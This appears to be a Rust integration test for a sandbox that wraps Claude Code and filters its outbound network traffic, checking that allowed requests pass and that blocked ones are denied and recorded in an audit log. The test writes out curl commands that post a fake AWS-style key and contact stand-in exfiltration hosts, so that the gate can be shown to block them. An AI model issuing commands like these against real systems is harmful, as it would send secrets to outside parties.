//! The chain from end to end: what may leave arrives, what may not arrives nowhere, and both are on record.

use std::time::Instant;

use bottle::Config;

use crate::farm;
use crate::lab::{self, FAKE_KEY, Lab, Want, claude, printed, shell};

#[test]
fn claude_code_answers_and_a_leak_and_a_detour_are_blocked_with_the_builtin_gate() {
    lab::run(1, async |lab| end_to_end(lab, lab.farm.config.clone()).await);
}

#[test]
fn claude_code_answers_and_a_leak_and_a_detour_are_blocked_with_the_real_pipelock() {
    lab::run(1, async |lab| {
        if let Some(config) = farm::with_real_pipelock(&lab.farm.config) {
            end_to_end(lab, config).await;
        }
    });
}

async fn end_to_end(lab: &Lab, config: Config) {
    let began = Instant::now();
    lab.with_bottle(Want { config: Some(config), ..Want::default() }, async |bottle| {
        eprintln!("ready after {:.2} s", began.elapsed().as_secs_f64());
        let prompt = format!("Hello from {}", lab.agent);
        let answer = bottle.exec(claude(&prompt)).await.unwrap();
        assert!(answer.success(), "{}", printed(&answer));
        assert!(printed(&answer).contains(&format!("You said: {prompt}")), "{}", printed(&answer));

        let allowed = lab.own_path("allowed");
        let script = format!("curl -sS -w '%{{http_code}}' -d fine https://api.anthropic.com{allowed}");
        let passed = shell(bottle, &script).await;
        assert!(printed(&passed).ends_with("200"), "{}", printed(&passed));
        let [arrival] = lab.arrivals(&allowed).await.try_into().unwrap();
        let seen = (arrival.method.as_str(), arrival.host.as_str(), arrival.bytes);
        assert_eq!(seen, ("POST", "api.anthropic.com", 4));

        let leak = lab.own_path("leak");
        let script = format!("curl -sS -i -d '{{\"n\": \"{FAKE_KEY}\"}}' https://api.anthropic.com{leak}");
        let blocked = printed(&shell(bottle, &script).await);
        assert!(blocked.contains("403") && blocked.contains("x-bottle-verdict: deny"), "{blocked}");
        assert!(blocked.contains("AWS"), "the rule is named: {blocked}");
        assert!(lab.arrivals(&leak).await.is_empty());

        let detour = shell(bottle, "curl -sS -i https://exfiltration.example.com/").await;
        assert!(!detour.success() && printed(&detour).contains("403"), "{}", printed(&detour));
        // Reachable for the gate, but on nobody's list.
        let sink = shell(bottle, &format!("curl -sS https://sink.example.net{leak}")).await;
        assert!(!sink.success() && printed(&sink).contains("403"), "{}", printed(&sink));
        assert!(lab.arrivals(&leak).await.is_empty());

        let audit = lab.audit(bottle);
        let line = |host: &str, rule: &str| {
            audit.lines().any(|l| l.contains("\"deny\"") && l.contains(host) && l.contains(rule))
        };
        assert!(line("api.anthropic.com", "AWS"), "{audit}");
        assert!(line("exfiltration.example.com", "BOTTLE-allowlist"), "{audit}");
        assert!(line("sink.example.net", "BOTTLE-allowlist"), "{audit}");
        assert!(audit.contains("\"allow\"") && !audit.contains(FAKE_KEY), "{audit}");
    })
    .await;
}
